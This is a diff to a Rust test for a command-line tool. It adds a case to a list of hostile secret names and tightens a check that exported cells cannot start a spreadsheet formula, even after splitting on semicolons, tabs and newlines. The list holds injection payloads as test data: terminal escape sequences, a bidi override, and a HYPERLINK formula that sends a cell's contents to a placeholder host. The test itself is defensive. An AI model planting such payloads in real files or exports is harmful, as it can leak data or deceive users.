@@ -4,13 +4,14 @@ use crate::cli::fixture::with_rows;
 use crate::common::{TestDb, TestEnv};
 
 /// Names that would set a title, change colours, reverse text, break a line, hide, or compute.
-const NAMES: [&str; 6] = [
+const NAMES: [&str; 7] = [
     "a\u{1b}]0;title\u{7}\u{1b}[31mRED",
     "b\u{9b}31m\u{7f}",
     "prod-\u{202e}yek-tset",
     "line\u{2028}break",
     "hid\u{200b}den\u{feff}",
     "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
+    "two;=1+1",
 ];
 
 /// The same secret under each of these names.
@@ -106,6 +107,8 @@ fn no_cell_is_a_spreadsheet_formula() {
         })
         .collect();
     assert!(cells.iter().any(|cell| *cell == format!("'{}", NAMES[5])));
-    let formula = |cell: &&String| cell.starts_with(['=', '+', '-', '@']);
-    assert_eq!(cells.iter().find(formula), None);
+    // Nor where `;` or a tab separates cells.
+    let parts = cells.iter().flat_map(|cell| cell.split([';', '\t', '\n']));
+    let formulas = parts.filter(|part| part.starts_with(['=', '+', '-', '@']));
+    assert_eq!(formulas.collect::<Vec<_>>(), [""; 0]);
 }
